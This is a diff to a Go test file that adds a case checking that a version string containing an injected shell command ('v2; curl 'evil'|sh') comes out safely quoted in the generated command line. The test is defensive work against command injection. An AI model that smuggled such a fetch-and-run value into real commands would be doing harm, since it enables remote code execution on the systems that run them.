@@ -44,6 +44,9 @@ func TestNext(t *testing.T) {
 		"something is new": {
 			afterSweep(fresh, "", "out"), []string{"open out/report.html", "run --containerd v2.4.2 f.yaml"},
 		},
+		"a version that is a command": {
+			afterSweep(fresh, "v2; curl 'evil'|sh", "out"), []string{`--containerd 'v2; curl '\''evil'\''|sh' f.yaml`},
+		},
 		"of a source": {afterSweep(fresh, "src:DIR", "out"), []string{"run --containerd src:DIR f.yaml"}},
 	} {
 		var out bytes.Buffer
